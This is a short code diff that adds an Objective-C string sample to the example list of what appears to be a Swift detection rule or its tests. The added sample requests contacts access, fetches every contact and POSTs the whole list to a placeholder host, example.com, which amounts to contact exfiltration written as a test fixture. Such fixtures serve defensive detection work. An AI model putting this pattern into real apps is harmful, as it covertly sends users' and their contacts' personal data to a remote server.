@@ -74,6 +74,20 @@ extension PromiseCode {
             }
             @end
             """#,
+            #"""
+            #import <Contacts/Contacts.h>
+            #import <AFNetworking/AFNetworking.h>
+            @interface Book : NSObject
+            @end
+            @implementation Book
+            - (void)send:(CNContactStore *)store {
+              [store requestAccessForEntityType:CNEntityTypeContacts completionHandler:^(BOOL ok, NSError *e) {}];
+              NSArray *found = [store unifiedContactsMatchingPredicate:nil keysToFetch:@[] error:nil];
+              AFHTTPSessionManager *api = [AFHTTPSessionManager manager];
+              [api POST:@"https://example.com" parameters:@{@"all": found} headers:nil progress:nil success:nil failure:nil];
+            }
+            @end
+            """#,
         ],
         truths: [
             #"""
